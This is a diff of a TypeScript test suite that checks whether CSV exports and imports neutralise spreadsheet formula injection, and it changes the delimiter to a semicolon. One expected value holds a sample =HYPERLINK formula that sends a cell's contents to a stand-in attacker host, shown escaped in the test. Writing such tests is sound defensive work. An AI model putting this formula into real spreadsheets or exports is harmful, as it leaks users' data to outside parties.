@@ -22,7 +22,7 @@ describe('CSV exports and imports with cells spreadsheets would run or the datab
 
   const get = (url: string) => inject({ method: 'GET', url, headers: coordinator.headers });
   const importCsv = (url: string, csv: string) => inject({ method: 'POST', url, payload: csv, headers: { ...coordinator.headers, 'content-type': 'text/csv' } });
-  const csvRows = (body: string) => parse(body, { columns: true, bom: true }) as Record<string, string>[];
+  const csvRows = (body: string) => parse(body, { columns: true, bom: true, delimiter: ';' }) as Record<string, string>[];
   const organizationsNamed = async (q: string) =>
     (await get(`/api/organizations?q=${encodeURIComponent(q)}&limit=100`)).json().items.map((item: { name: string }) => item.name) as string[];
 
@@ -43,7 +43,7 @@ describe('CSV exports and imports with cells spreadsheets would run or the datab
 
   it('imports names starting with formula characters as they are, and an exported cell without the quote it got', async () => {
     const exported = (await get(`/api/organizations/export.csv?q=${encodeURIComponent('HYPERLINK')}`)).body;
-    expect(exported).toContain(',"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klick"")",\'-5,');
+    expect(exported).toContain(';"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klick"")";\'-5;');
     const [row] = csvRows(exported);
     const csv = ['name,kind,short_name', `"${row!.name!.replaceAll('"', '""')}",ngo,${row!.short_name}`, '-Verein Minus,ngo,@Kurz', "'s-Hertogenbosch Vereniging,ngo,"].join('\n');
     const report = (await importCsv(`/api/imports/organizations?workspaceId=${workspaceId}`, csv)).json();
